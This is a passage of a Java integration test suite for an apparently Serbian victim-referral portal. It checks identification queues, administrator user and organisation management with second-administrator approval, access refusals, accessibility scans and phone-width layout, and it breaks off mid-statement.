package rs.astra.nrm.web;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import jakarta.enterprise.inject.Instance;
import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;
import jakarta.persistence.PersistenceContext;
import jakarta.servlet.http.HttpServletRequest;
import java.io.ByteArrayInputStream;
import java.net.URI;
import java.net.URL;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.format.DateTimeFormatter;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.poi.ss.usermodel.DataFormatter;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import rs.astra.nrm.audit.ActivityRecord;
import rs.astra.nrm.audit.AuditRecord;
import rs.astra.nrm.casefile.CaseFileService;
import rs.astra.nrm.casefile.CaseListQuery;
import rs.astra.nrm.casefile.CaseStageService;
import rs.astra.nrm.casefile.DataCategory;
import rs.astra.nrm.casefile.IdentificationQueueService;
import rs.astra.nrm.casefile.NrmStage;
import rs.astra.nrm.consent.AccessAction;
import rs.astra.nrm.consent.ConsentMethod;
import rs.astra.nrm.consent.ConsentService;
import rs.astra.nrm.consent.Purpose;
import rs.astra.nrm.organisation.AdministrationService;
import rs.astra.nrm.organisation.NotPermittedException;
import rs.astra.nrm.organisation.Organisation;
import rs.astra.nrm.organisation.OrganisationType;
import rs.astra.nrm.organisation.PortalRole;
import rs.astra.nrm.organisation.PortalUser;
import rs.astra.nrm.organisation.RoleGrantRow;
import rs.astra.nrm.organisation.RoleGrantService;
import rs.astra.nrm.organisation.UserDirectory;
import rs.astra.nrm.organisation.Viewer;
import rs.astra.nrm.proceedings.ProceedingsEntryKind;
import rs.astra.nrm.proceedings.ProceedingsService;
import rs.astra.nrm.referral.ReferralService;
import rs.astra.nrm.rights.AccessReportService;
import rs.astra.nrm.shared.ConcurrentUpdateException;
import rs.astra.nrm.shared.InvalidRequestException;

/**
 * The per-role pages, through the real services and over HTTP with a signed-in session: the
 * identification queue of the CPTV and of a centre for social work, the administrator's
 * organisations and users, the data protection officer's case search, upcoming hearings on the home
 * page, and the exports of the case list. Works with organisations of its own (prefix "RP"),
 * created through the administration service, so that nothing here changes what other tests count.
 */
@ExtendWith(ArquillianExtension.class)
class RolePagesIT {

  @Deployment
  static WebArchive portal() {
    return Deployments.packagedPortal(PortalSession.class);
  }

  static final String PASSWORD = "rp-password-2026";
  static final String OWNER_NGO = "RP Owner NGO";

  @Inject CaseFileService cases;
  @Inject CaseStageService stages;
  @Inject ReferralService referrals;
  @Inject ConsentService consents;
  @Inject ProceedingsService proceedings;
  @Inject IdentificationQueueService queue;
  @Inject AccessReportService reports;
  @Inject AdministrationService administration;
  @Inject RoleGrantService grants;
  @Inject UserDirectory directory;
  @Inject Instance<HttpServletRequest> request;

  @PersistenceContext(unitName = "nrm")
  EntityManager em;

  @ArquillianResource URL base;

  /** The fixture, built once per server: case name → id. */
  private static final Map<String, Long> CASES = new java.util.concurrent.ConcurrentHashMap<>();

  private static final Map<String, Long> ORGANISATIONS =
      new java.util.concurrent.ConcurrentHashMap<>();

  private Viewer viewer(String username) {
    return directory
        .viewerFor(username)
        .orElseThrow(() -> new AssertionError("no active user " + username));
  }

  private URI root() throws Exception {
    if (base != null) {
      return base.toURI();
    }
    HttpServletRequest r = request.get();
    return URI.create("http://localhost:" + r.getLocalPort() + r.getContextPath() + "/");
  }

  private PortalSession signedIn(String username, String password) throws Exception {
    PortalSession session = new PortalSession(root());
    String home = session.signIn(username, password);
    assertTrue(home.contains("id=\"currentUser\""), username + " is signed in");
    return session;
  }

  /**
   * Creates a user as the demo administrator and, when her role needs it (four eyes), has the
   * second demo administrator approve it.
   */
  private long createApproved(AdministrationService.NewUserForm form) {
    long id = administration.createUser(viewer("admin"), form);
    approvePending(id);
    return id;
  }

  /** The second demo administrator approves every request pending for a user. */
  private void approvePending(long userId) {
    Viewer second = viewer("admin2");
    for (RoleGrantRow g : grants.pending(second)) {
      if (g.userId() == userId) {
        grants.approve(second, g.id(), g.version());
      }
    }
  }

  /** The one request pending for a user, as an administrator sees it. */
  private RoleGrantRow pendingFor(Viewer administrator, long userId) {
    List<RoleGrantRow> rows =
        grants.pending(administrator).stream().filter(g -> g.userId() == userId).toList();
    assertEquals(1, rows.size(), "one request pending for user " + userId);
    return rows.get(0);
  }

  private String code(long caseId) {
    return cases.find(viewer("rp.coordinator"), caseId).orElseThrow().code();
  }

  /**
   * Organisations and users (with passwords) created by the demo administrator through the service,
   * and cases with referrals in every state that matters to the queue.
   */
  private synchronized void fixture() throws Exception {
    if (!CASES.isEmpty()) {
      return;
    }
    Viewer admin = viewer("admin");
    for (Object[] o :
        List.<Object[]>of(
            new Object[] {OWNER_NGO, OrganisationType.NGO},
            new Object[] {"RP Unrelated NGO", OrganisationType.NGO},
            new Object[] {"RP CPTV", OrganisationType.CPTV},
            new Object[] {"RP Social Work Centre", OrganisationType.SOCIAL_WORK_CENTRE},
            new Object[] {"RP Prosecutor", OrganisationType.PROSECUTOR},
            new Object[] {"RP Police", OrganisationType.POLICE})) {
      ORGANISATIONS.put(
          (String) o[0],
          administration.createOrganisation(
              admin, (String) o[0], (OrganisationType) o[1], "Subotica"));
    }
    for (Object[] u :
        List.<Object[]>of(
            new Object[] {"rp.coordinator", OWNER_NGO, PortalRole.NGO_COORDINATOR},
            new Object[] {"rp.unrelated", "RP Unrelated NGO", PortalRole.NGO_CASEWORKER},
            new Object[] {"rp.cptv", "RP CPTV", PortalRole.CPTV_OFFICER},
            new Object[] {"rp.csw", "RP Social Work Centre", PortalRole.CSW_OFFICER},
            new Object[] {"rp.prosecutor", "RP Prosecutor", PortalRole.PROSECUTOR},
            new Object[] {"rp.police", "RP Police", PortalRole.POLICE_OFFICER})) {
      createApproved(
          new AdministrationService.NewUserForm(
              (String) u[0],
              "Tester " + u[0],
              u[0] + "@example.org",
              ORGANISATIONS.get((String) u[1]),
              (PortalRole) u[2],
              PASSWORD));
    }
    Viewer owner = viewer("rp.coordinator");
    LocalDate today = rs.astra.nrm.shared.NrmTime.today();
    LocalDate adult = LocalDate.of(1992, 3, 4);
    LocalDate child = today.minusYears(15);

    long waitingSent = presumedVictim(owner, "Waitingsent", adult);
    referrals.send(
        owner,
        waitingSent,
        ORGANISATIONS.get("RP CPTV"),
        Purpose.IDENTIFICATION,
        EnumSet.of(DataCategory.IDENTITY, DataCategory.EXPLOITATION),
        null);
    long waitingAccepted = presumedVictim(owner, "Waitingaccepted", adult);
    long accepted =
        referrals.send(
            owner,
            waitingAccepted,
            ORGANISATIONS.get("RP CPTV"),
            Purpose.IDENTIFICATION,
            Set.of(),
            null);
    referrals.accept(viewer("rp.cptv"), accepted, version(viewer("rp.cptv"), accepted));
    long stillSignal = openCase(owner, "Stillsignal", adult);
    referrals.send(
        owner, stillSignal, ORGANISATIONS.get("RP CPTV"), Purpose.IDENTIFICATION, Set.of(), null);
    long otherPurpose = presumedVictim(owner, "Otherpurpose", adult);
    referrals.send(
        owner, otherPurpose, ORGANISATIONS.get("RP CPTV"), Purpose.ACCOMMODATION, Set.of(), null);
    long rejected = presumedVictim(owner, "Rejected", adult);
    long toReject =
        referrals.send(
            owner, rejected, ORGANISATIONS.get("RP CPTV"), Purpose.IDENTIFICATION, Set.of(), null);
    referrals.reject(
        viewer("rp.cptv"), toReject, version(viewer("rp.cptv"), toReject), "not our case");
    long revoked = presumedVictim(owner, "Revoked", adult);
    long toRevoke =
        referrals.send(
            owner, revoked, ORGANISATIONS.get("RP CPTV"), Purpose.IDENTIFICATION, Set.of(), null);
    referrals.revoke(owner, toRevoke, version(viewer("rp.cptv"), toRevoke), "sent by mistake");
    long aChild = presumedVictim(owner, "Childcase", child);
    referrals.send(
        owner, aChild, ORGANISATIONS.get("RP CPTV"), Purpose.IDENTIFICATION, Set.of(), null);
    referrals.send(
        owner,
        aChild,
        ORGANISATIONS.get("RP Social Work Centre"),
        Purpose.IDENTIFICATION,
        Set.of(),
        null);
    // Referred to the centre with the person's consent to share her identity: its name shows.
    long consented = openCase(owner, "Consented", adult);
    consents.give(
        owner,
        new ConsentService.NewConsentForm(
            consented,
            ORGANISATIONS.get("RP Social Work Centre"),
            Purpose.SOCIAL_PROTECTION,
            EnumSet.of(DataCategory.IDENTITY),
            today,
            null,
            ConsentMethod.SIGNED_FORM,
            null));
    referrals.send(
        owner,
        consented,
        ORGANISATIONS.get("RP Social Work Centre"),
        Purpose.SOCIAL_PROTECTION,
        EnumSet.of(DataCategory.IDENTITY),
        null);
    long notReferred = openCase(owner, "Notreferred", adult);
    long trial = openCase(owner, "Trialcase", adult);
    referrals.send(
        owner,
        trial,
        ORGANISATIONS.get("RP Prosecutor"),
        Purpose.CRIMINAL_PROCEEDINGS,
        Set.of(),
        null);
    referrals.send(
        owner, trial, ORGANISATIONS.get("RP Police"), Purpose.CRIMINAL_PROCEEDINGS, Set.of(), null);

    CASES.putAll(
        Map.of(
            "Waitingsent",
            waitingSent,
            "Waitingaccepted",
            waitingAccepted,
            "Stillsignal",
            stillSignal,
            "Otherpurpose",
            otherPurpose,
            "Rejected",
            rejected,
            "Revoked",
            revoked,
            "Childcase",
            aChild,
            "Consented",
            consented,
            "Notreferred",
            notReferred,
            "Trialcase",
            trial));
  }

  /** Refers a case to the RP centre for social work, for protection, its summary only. */
  private long referToTheCentre(Viewer owner, long caseId) {
    return referrals.send(
        owner,
        caseId,
        ORGANISATIONS.get("RP Social Work Centre"),
        Purpose.SOCIAL_PROTECTION,
        Set.of(),
        null);
  }

  /** The newest audit record's id, 0 when there is none: what a step writes has a larger one. */
  private long lastAuditRecordId() {
    return ((Number)
            em.createNativeQuery("select coalesce(max(id), 0) from audit_record").getSingleResult())
        .longValue();
  }

  private long openCase(Viewer owner, String surname, LocalDate birthdate) {
    return cases.open(
        owner,
        new CaseFileService.NewCaseForm(
            "Rpperson", surname, birthdate, null, "RS", null, null, Set.of(), null, null));
  }

  private long presumedVictim(Viewer owner, String surname, LocalDate birthdate) {
    long id = openCase(owner, surname, birthdate);
    stages.moveTo(
        owner, id, cases.find(owner, id).orElseThrow().version(), NrmStage.PRESUMED_VICTIM);
    return id;
  }

  private long version(Viewer recipient, long referralId) {
    return referrals.inbox(recipient, null, 0, 500).stream()
        .filter(r -> r.id() == referralId)
        .findFirst()
        .orElseThrow()
        .version();
  }

  private static Set<String> matches(String html, String regex) {
    Set<String> found = new TreeSet<>();
    Matcher m = Pattern.compile(regex).matcher(html);
    while (m.find()) {
      found.add(m.group(1));
    }
    return found;
  }

  // ---- in the browser ----

  @Test
  @org.jboss.arquillian.container.test.api.RunAsClient
  void theRolePagesRenderWithoutCriticalOrSeriousAccessibilityViolations() {
    Map<String, List<String>> violations = new java.util.LinkedHashMap<>();
    try (Browser browser = new Browser(base)) {
      browser.login("cptv.officer");
      browser.open("app/identification.xhtml");
      assertTrue(browser.present("[id='queueForm:queue']"), "the CPTV officer's queue");
      browser.screenshot("cptv-identification-queue");
      violations.put("identification", browser.seriousAccessibilityViolations());
      browser.login("dpo");
      browser.open("app/home.xhtml");
      assertTrue(
          browser.present("[id='emergencyRequestsForm:requests']"),
          "the DPO's home page lists emergency accesses waiting for her approval");
      violations.put("dpo home", browser.seriousAccessibilityViolations());
      browser.open("app/access-reports.xhtml");
      assertTrue(browser.present(".found-code"), "the DPO's search lists her organisation's cases");
      browser.screenshot("dpo-access-reports");
      violations.put("access reports", browser.seriousAccessibilityViolations());
      browser.login("admin");
      browser.open("app/admin/organisations.xhtml");
      assertTrue(browser.all(".org-name").size() >= 7, "the demo organisations");
      browser.screenshot("admin-organisations");
      violations.put("organisations", browser.seriousAccessibilityViolations());
      browser.open("app/admin/users.xhtml");
      assertTrue(browser.all(".user-name").size() >= 11, "the demo users");
      browser.screenshot("admin-users");
      violations.put("users", browser.seriousAccessibilityViolations());
      // Issue 15: the new user's role menu offers only the roles of the chosen organisation's kind.
      Object police =
          browser.script(
              "var s = document.getElementById('userAdminForm:organisation_input');"
                  + " for (var i = 0; i < s.options.length; i++) { if (s.options[i].text === 'Uprava granične policije') { return s.options[i].value; } } return null;");
      assertNotNull(police, "the police organisation is in the menu");
      // As a user does it: open the menu and click the organisation (fires the menu's change
      // event).
      // A click that lands while the panel still slides open only hovers the item (seen in CI):
      // then
      // she clicks again, as a person would.
      for (int attempt = 0;
          attempt < 3
              && !"Uprava granične policije"
                  .equals(browser.find("[id='userAdminForm:organisation_label']").getText());
          attempt++) {
        if (!browser.find("[id='userAdminForm:organisation_panel']").isDisplayed()) {
          browser.find("[id='userAdminForm:organisation']").click();
        }
        org.openqa.selenium.WebElement item =
            browser.visible(
                "[id='userAdminForm:organisation_panel'] li[data-label='Uprava granične policije']");
        browser.pause(java.time.Duration.ofMillis(400));
        item.click();
        browser.waitForAjax();
      }
      // The menu is replaced by the Ajax answer, which may come a moment after the queue looked
      // empty.
      Object offered =
          browser.scriptUntil(
              "return Array.from(document.getElementById('userAdminForm:role_input').options).map(function (o) { return o.value; }).filter(function (v) { return v; }).join(',');",
              v -> !String.valueOf(v).contains("NGO_CASEWORKER"));
      browser.screenshot("admin-users-police-chosen");
      assertEquals(
          "POLICE_OFFICER,DPO",
          offered,
          "a police organisation is offered police and data protection roles only (organisation chosen: "
              + browser.script(
                  "return document.getElementById('userAdminForm:organisation_label').textContent + ' / ' + document.getElementById('userAdminForm:organisation_input').value;")
              + ")");
      browser.open("app/admin/audit-seal.xhtml");
      browser.submit(browser.find("[id='sealForm:verify']"));
      String outcome = browser.find("#sealOutcome").getText();
      assertTrue(
          outcome.contains("sealed") || outcome.contains("zapečać") || outcome.contains("запечаћ"),
          "the verification's outcome: " + outcome);
      assertFalse(outcome.contains("BROKEN") || outcome.contains("više ne slaže"), outcome);
      browser.screenshot("admin-audit-seal");
      violations.put("audit seal", browser.seriousAccessibilityViolations());
      browser.login("ngo.coordinator");
      browser.open("app/cases.xhtml");
      assertTrue(browser.present("[id='casesForm:exportXlsx']"));
      browser.screenshot("ngo-coordinator-cases-export");
      violations.put("cases with exports", browser.seriousAccessibilityViolations());
    }
    violations.values().removeIf(List::isEmpty);
    assertTrue(violations.isEmpty(), "axe-core: " + violations);
  }

  /**
   * Issue 19: the case list and the case page at a phone's (390 px) and a tablet's (768 px) width.
   * Nothing makes the document scroll sideways (tables scroll inside their cards), the main menu
   * folds behind its button, the case page opens with its section menu (with counts) and its forms
   * closed until their panel is opened; axe-core finds nothing critical or serious on the
   * restructured case page, wide, with a form open, and narrow. Screenshots under
   * web/target/screenshots/ (cases-390.png, case-768.png, ...).
   */
  @Test
  @org.jboss.arquillian.container.test.api.RunAsClient
  void theCaseListAndTheCasePageFitAPhoneAndATablet() {
    Map<String, List<String>> violations = new java.util.LinkedHashMap<>();
    Map<String, Long> overflow = new java.util.LinkedHashMap<>();
    try (Browser browser = new Browser(base)) {
      browser.login("ngo.coordinator");
      browser.open("app/cases.xhtml");
      browser.find("a.nrm-case-code");
      // A loop, not a lambda over Selenium's elements: the class must resolve in the server, which
      // has no Selenium (a lambda's synthetic method would name WebElement).
      List<String> casePaths = new ArrayList<>();
      for (Object a : browser.all("a.nrm-case-code")) {
        if (casePaths.size() < 5) {
          String h = ((org.openqa.selenium.WebElement) a).getAttribute("href");
          casePaths.add(h.substring(h.indexOf("app/")));
        }
      }
      // A case of her own organisation, where the page has forms for her.
      String casePath = casePaths.get(0);
      for (String path : casePaths) {
        browser.open(path);
        browser.find("#caseNav");
        if (browser.present("details.nrm-add")) {
          casePath = path;
          break;
        }
      }
      for (String section : List.of("sec-summary", "sec-person", "sec-consents", "sec-timeline")) {
        assertTrue(
            browser.present("#caseNav a[href='#" + section + "']")
                && browser.present("#" + section),
            "the section menu links " + section);
      }
      assertTrue(
          browser.find("#countTimeline").getText().matches("\\d+"),
          "the timeline's link counts its events");
      assertTrue(browser.present("#countDocuments"), "and the documents' link counts documents");
      assertFalse(browser.find("#menuButton").isDisplayed(), "no menu button on a wide screen");
      assertTrue(browser.find("[id='navCases']").isDisplayed(), "the menu shows on a wide screen");
      List<org.openqa.selenium.WebElement> panels = browser.all("details.nrm-add");
      assertFalse(panels.isEmpty(), "the owner's case page has forms to open");
      org.openqa.selenium.WebElement panel = panels.get(0);
      assertNull(panel.getAttribute("open"), "a form is closed until its panel is opened");
      org.openqa.selenium.WebElement body =
          panel.findElement(org.openqa.selenium.By.cssSelector(".nrm-add-body"));
      assertFalse(body.isDisplayed(), "its fields are hidden");
      panel.findElement(org.openqa.selenium.By.cssSelector("summary")).click();
      browser.scriptUntil(
          "return document.querySelector('details.nrm-add').open;", Boolean.TRUE::equals);
      assertTrue(body.isDisplayed(), "the panel opens where it is used");
      browser.screenshot("case-wide-form-open");
      violations.put("case, a form open", browser.seriousAccessibilityViolations());
      for (int width : new int[] {768, 390}) {
        browser.resize(width, width == 390 ? 844 : 1024);
        browser.open("app/cases.xhtml");
        browser.find("a.nrm-case-code");
        browser.screenshot("cases-" + width);
        overflow.put("cases " + width, browser.horizontalOverflow());
        assertTrue(browser.find("#menuButton").isDisplayed(), "the menu button at " + width);
        assertFalse(browser.find("[id='navCases']").isDisplayed(), "the menu folded at " + width);
        browser.find("#menuButton").click();
        assertTrue(browser.visible("[id='navCases']").isDisplayed(), "the button opens the menu");
        browser.screenshot("cases-" + width + "-menu-open");
        overflow.put("cases, menu open " + width, browser.horizontalOverflow());
        browser.open(casePath);
        browser.find("#caseNav");
        browser.screenshot("case-" + width);
        overflow.put("case " + width, browser.horizontalOverflow());
        violations.put("case " + width, browser.seriousAccessibilityViolations());
        browser.script("document.querySelectorAll('details.nrm-add').forEach(d => d.open = true);");
        browser.screenshot("case-" + width + "-forms-open");
        overflow.put("case, forms open " + width, browser.horizontalOverflow());
      }
    }
    overflow.values().removeIf(v -> v == 0);
    assertTrue(overflow.isEmpty(), "pages wider than the window (px): " + overflow);
    violations.values().removeIf(List::isEmpty);
    assertTrue(violations.isEmpty(), "axe-core: " + violations);
  }

  // ---- the identification queue ----

  @Test
  void theCptvQueueShowsExactlyTheAdultsWaitingForItsDecision() throws Exception {
    fixture();
    Viewer cptv = viewer("rp.cptv");
    Set<Long> expected = Set.of(CASES.get("Waitingsent"), CASES.get("Waitingaccepted"));
    Set<Long> listed = new HashSet<>();
    queue
        .page(cptv, new IdentificationQueueService.QueueQuery(0, 500, null, true, null))
        .forEach(r -> listed.add(r.caseId()));
    assertEquals(
        expected,
        listed,
        "waiting or accepted, presumed victim, adult, for identification; not a signal, another purpose, rejected, revoked or a child");
    assertEquals(2, queue.count(cptv, null));

    Set<Long> childQueue = new HashSet<>();
    queue
        .page(viewer("rp.csw"), new IdentificationQueueService.QueueQuery(0, 500, null, true, null))
        .forEach(r -> childQueue.add(r.caseId()));
    assertEquals(
        Set.of(CASES.get("Childcase")),
        childQueue,
        "the centre for social work decides for the child");
    assertEquals(0, queue.count(viewer("rp.coordinator"), null), "the owner has no queue");

    // The page as the CPTV officer sees it: the same cases, each linking to the case page.
    PortalSession session = signedIn("rp.cptv", PASSWORD);
    assertTrue(
        session.lastPage().contains("id=\"navIdentification\""),
        "the queue is in the CPTV's navigation");
    assertTrue(session.lastPage().contains("id=\"tileIdentification\""));
    assertEquals(
        Set.of("2"),
        matches(
            session.lastPage(),
            "id=\"tileIdentification\"[^>]*>\\s*<span class=\"nrm-count\">(\\d+)</span>"),
        "home page count");
    String page = session.get("app/identification.xhtml").body();
    Set<String> codes = matches(page, "class=\"nrm-case-code queue-case\"[^>]*>([^<]+)</a>");
    if (codes.isEmpty()) {
      codes = matches(page, "<a [^>]*class=\"nrm-case-code queue-case\">([^<]+)</a>");
    }
    assertEquals(
        new TreeSet<>(Set.of(code(CASES.get("Waitingsent")), code(CASES.get("Waitingaccepted")))),
        codes,
        page.length() > 3000 ? page.substring(0, 3000) : page);
    assertFalse(page.contains("Rpperson"), "no names in the queue");

    // Once the CPTV decides (on the case page), the case leaves the queue.
    long decided = CASES.get("Waitingsent");
    stages.decideIdentification(
        cptv,
        decided,
        cases.find(viewer("rp.coordinator"), decided).orElseThrow().version(),
        true,
        null);
    assertEquals(1, queue.count(cptv, null));

    PortalSession owner = signedIn("rp.coordinator", PASSWORD);
    assertFalse(
        owner.lastPage().contains("navIdentification"), "an NGO has no identification queue");
    assertFalse(owner.lastPage().contains("tileIdentification"));
    // The sixth trial: the timeline showed the decision as "IDENTIFIED 2026-12-06"; it is named in
    // the page's language, with the day as the user reads it.
    String casePage = owner.get("app/case.xhtml?id=" + decided).body();
    String timeline = casePage.substring(Math.max(0, casePage.indexOf("id=\"timelineSection\"")));
    String today =
        rs.astra.nrm.shared.NrmTime.today()
            .format(java.time.format.DateTimeFormatter.ofPattern("dd.MM.yyyy"));
    assertTrue(
        timeline.contains("Identifikovana žrtva " + today),
        () ->
            "the decision by its label: "
                + timeline.substring(0, Math.min(3000, timeline.length())));
    assertFalse(timeline.contains("IDENTIFIED "), "no code");
  }

  // ---- administration ----

  @Test
  void theAdministratorCreatesAnOrganisationAndAUserWhoSignsInUntilDeactivated() throws Exception {
    fixture();
    // The menus' list is kept by the server (issue 16): read before the changes below.
    assertFalse(offered("RP Created Centre"));
    Viewer admin = viewer("admin");
    PortalSession session = signedIn("admin", "demo");
    assertTrue(
        session.lastPage().contains("id=\"navUsers\"")
            && session.lastPage().contains("id=\"navOrganisations\""));
    // Issue 16: the referral inbox is neither offered nor open to a role that reads no case data.
    assertFalse(
        session.lastPage().contains("id=\"navInbox\""), "no inbox link for an administrator");
    assertEquals(403, session.get("app/inbox.xhtml").statusCode(), "nor the page");

    session.get("app/admin/organisations.xhtml");
    String created =
        session.submitForPage(
            "orgForm",
            "orgForm:create",
            Map.of(
                "orgForm:newName",
                "RP Created Centre",
                "orgForm:newType_input",
                "SOCIAL_WORK_CENTRE",
                "orgForm:newCity",
                "Novi Sad"));
    assertTrue(created.contains("RP Created Centre"), "the new organisation is listed");
    String duplicate =
        session.submitForPage(
            "orgForm",
            "orgForm:create",
            Map.of(
                "orgForm:newName",
                "rp created centre",
                "orgForm:newType_input",
                "NGO",
                "orgForm:newCity",
                ""));
    assertTrue(
        duplicate.contains("Another organisation already has this name")
            || duplicate.contains("Druga organizacija već ima ovaj naziv"),
        "a clear message");
    long organisationId =
        directory.findOrganisationByName("RP Created Centre").orElseThrow().getId();
    assertTrue(
        offered("RP Created Centre"), "an organisation created on this server is offered at once");

    session.get("app/admin/users.xhtml");
    Map<String, String> form =
        new java.util.HashMap<>(
            Map.of(
                "userAdminForm:username",
                "rp.newuser",
                "userAdminForm:displayName",
                "Nova Korisnica",
                "userAdminForm:email",
                "nova@example.org",
                "userAdminForm:organisation_input",
                String.valueOf(organisationId),
                "userAdminForm:role_input",
                "CSW_OFFICER",
                "userAdminForm:password",
                "short"));
    String tooShort = session.submitForPage("userAdminForm", "userAdminForm:createUser", form);
    assertTrue(tooShort.contains("12"), "the password rule is explained");
    assertTrue(directory.findUser("rp.newuser").isEmpty(), "nothing was created");
    form.put("userAdminForm:password", "a-long-initial-password");
    String done = session.submitForPage("userAdminForm", "userAdminForm:createUser", form);
    assertTrue(
        done.contains("Korisnik je napravljen") || done.contains("The user was created"),
        "the administrator is told");
    assertTrue(
        done.contains("čeka odobrenje drugog administratora")
            || done.contains("waits for a second administrator"),
        "that her role waits for approval");
    assertTrue(directory.findUser("rp.newuser").isPresent());
    // A social-work professional reads case data: she signs in once a second administrator
    // approves.
    assertFalse(
        new PortalSession(root())
            .signIn("rp.newuser", "a-long-initial-password")
            .contains("id=\"currentUser\""),
        "not before the approval");
    approvePending(directory.findUser("rp.newuser").orElseThrow().getId());

    PortalSession newUser = signedIn("rp.newuser", "a-long-initial-password");
    assertTrue(
        newUser.lastPage().contains("RP Created Centre"), "she works for the new organisation");
    assertTrue(
        newUser.get("app/admin/users.xhtml").statusCode() == 403,
        "a non-administrator is refused the administration pages");
    assertTrue(newUser.lastPage().contains("id=\"forbidden\""), "and told she is not authorised");

    // The administrator deactivates her on the users page; her open session stops at her next
    // click, and she can no longer sign in.
    session.get("app/admin/users.xhtml");
    session.submitForPage(
        "userAdminForm", "userAdminForm:filter", Map.of("userAdminForm:filterText", "rp.newuser"));
    String afterDeactivation =
        session.submitForPage(
            "userAdminForm",
            "userAdminForm:users:0:deactivateUser",
            Map.of("userAdminForm:filterText", "rp.newuser"));
    assertFalse(
        directory.findUser("rp.newuser").orElseThrow().isActive(),
        afterDeactivation.length() > 2000
            ? afterDeactivation.substring(0, 2000)
            : afterDeactivation);
    assertEquals(
        403, newUser.get("app/home.xhtml").statusCode(), "the open session is stopped at once");
    assertFalse(newUser.lastPage().contains("id=\"currentUser\""));
    String refused = new PortalSession(root()).signIn("rp.newuser", "a-long-initial-password");
    assertTrue(
        refused.contains("loginForm") && !refused.contains("id=\"currentUser\""),
        "a deactivated user cannot sign in");

    // Every change is in the activity record, by id and code only.
    List<ActivityRecord.Kind> kinds =
        em
            .createQuery(
                "select a from ActivityRecord a where a.userId = :u and ((a.kind = :orgCreated and a.subjectId = :org) or (a.kind in :userKinds and a.subjectId = :user))"
                    + " order by a.id",
                ActivityRecord.class)
            .setParameter("u", admin.userId())
            .setParameter("orgCreated", ActivityRecord.Kind.ORGANISATION_CREATED)
            .setParameter("org", organisationId)
            .setParameter(
                "userKinds",
                List.of(ActivityRecord.Kind.USER_CREATED, ActivityRecord.Kind.USER_DEACTIVATED))
            .setParameter("user", directory.findUser("rp.newuser").orElseThrow().getId())
            .getResultList()
            .stream()
            .map(ActivityRecord::getKind)
            .toList();
    assertEquals(
        List.of(
            ActivityRecord.Kind.ORGANISATION_CREATED,
            ActivityRecord.Kind.USER_CREATED,
            ActivityRecord.Kind.USER_DEACTIVATED),
        kinds);

    // Role changes wait for a second administrator and check the version; a deactivated
    // organisation's users cannot sign in either.
    long second =
        createApproved(
            new AdministrationService.NewUserForm(
                "rp.second",
                "Druga Korisnica",
                null,
                organisationId,
                PortalRole.CSW_OFFICER,
                "another-long-password"));
    long version =
        administration
            .users(
                admin, new AdministrationService.UserQuery(0, 10, "rp.second", null, null, false))
            .get(0)
            .version();
    assertEquals(
        AdministrationService.Outcome.AWAITING_APPROVAL,
        administration.changeRole(admin, second, version, PortalRole.DPO));
    assertEquals(
        PortalRole.CSW_OFFICER,
        viewer("rp.second").role(),
        "she keeps her role until a second administrator approves");
    approvePending(second);
    assertEquals(PortalRole.DPO, viewer("rp.second").role());
    assertThrows(
        ConcurrentUpdateException.class,
        () -> administration.changeRole(admin, second, version, PortalRole.CSW_OFFICER),
        "someone changed her meanwhile");
    long orgVersion =
        administration.organisations(admin).stream()
            .filter(o -> o.id() == organisationId)
            .findFirst()
            .orElseThrow()
            .version();
    administration.deactivateOrganisation(admin, organisationId, orgVersion);
    assertFalse(
        offered("RP Created Centre"), "a deactivated organisation is offered no more at once");
    // A form shown before the deactivation (or a crafted post) records nothing for it.
    Viewer owner = viewer("rp.coordinator");
    long caseId = openCase(owner, "Deactivatedrecipient", LocalDate.of(1989, 2, 3));
    assertEquals(
        "organisation.error.inactive",
        assertThrows(
                InvalidRequestException.class,
                () ->
                    consents.give(
                        owner,
                        signedToday(
                            caseId,
                            organisationId,
                            Purpose.PSYCHOSOCIAL_SUPPORT,
                            DataCategory.CONTACT)))
            .messageKey());
    assertEquals(
        "organisation.error.inactive",
        assertThrows(
                InvalidRequestException.class,
                () ->
                    referrals.send(
                        owner,
                        caseId,
                        organisationId,
                        Purpose.PSYCHOSOCIAL_SUPPORT,
                        EnumSet.noneOf(DataCategory.class),
                        null))
            .messageKey());
    assertTrue(
        directory.viewerFor("rp.second").isEmpty(),
        "a user of a deactivated organisation is not let in");
    assertFalse(
        new PortalSession(root())
            .signIn("rp.second", "another-long-password")
            .contains("id=\"currentUser\""));

    assertEquals(
        "admin.error.self",
        assertThrows(
                InvalidRequestException.class,
                () -> administration.deactivateUser(admin, admin.userId(), 0))
            .messageKey());
    assertThrows(
        NotPermittedException.class,
        () ->
            administration.createOrganisation(
                viewer("rp.coordinator"), "RP Not Allowed", OrganisationType.NGO, null));
    assertEquals(
        0, cases.count(admin, CaseListQuery.firstPage(20)), "the administrator still sees no case");
    assertEquals(0, proceedings.upcomingHearings(admin, 10).total());
  }

  @Test
  void anAdministratorCannotGiveARoleThatTheOrganisationsKindMayNotHave() throws Exception {
    fixture();
    Viewer admin = viewer("admin");
    long police = ORGANISATIONS.get("RP Police");
    long csw = ORGANISATIONS.get("RP Social Work Centre");
    // The trial: an NGO coordinator inside the police (who then opened cases as owner), an
    // administrator inside a centre.
    rs.astra.nrm.shared.InvalidRequestException coordinatorInPolice =
        org.junit.jupiter.api.Assertions.assertThrows(
            rs.astra.nrm.shared.InvalidRequestException.class,
            () ->
                administration.createUser(
                    admin,
                    new AdministrationService.NewUserForm(
                        "rp.fakecoordinator",
                        "Lažna koordinatorka",
                        null,
                        police,
                        PortalRole.NGO_COORDINATOR,
